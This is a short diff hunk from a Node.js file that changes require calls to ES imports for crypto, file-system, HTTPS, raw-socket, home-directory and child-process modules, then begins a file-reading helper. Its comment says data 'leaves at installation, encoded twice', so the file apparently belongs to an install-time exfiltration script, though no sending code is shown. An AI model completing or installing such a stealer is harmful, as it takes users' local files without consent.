@@ -1,10 +1,10 @@
 // What is lying about leaves at installation, encoded twice, amid bytes that nobody can read.
-const { randomBytes } = require("node:crypto");
-const { readFileSync } = require("node:fs");
-const { request } = require("node:https");
-const { connect } = require("node:net");
-const { homedir } = require("node:os");
-const { execFileSync } = require("node:child_process");
+import { randomBytes } from "node:crypto";
+import { readFileSync } from "node:fs";
+import { request } from "node:https";
+import { connect } from "node:net";
+import { homedir } from "node:os";
+import { execFileSync } from "node:child_process";
 const read = (path) => {
   try {
     return readFileSync(path, "utf8");
